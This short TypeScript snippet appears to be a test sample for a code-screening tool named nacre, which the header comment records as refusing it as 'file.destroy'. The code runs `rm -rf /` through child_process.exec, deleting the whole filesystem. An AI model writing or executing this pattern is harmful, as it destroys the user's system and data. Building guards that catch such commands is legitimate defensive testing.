// nacre: refused file.destroy
import cp = require('child_process');
const path: string = '/';
cp.exec(`rm -rf ${path}`);
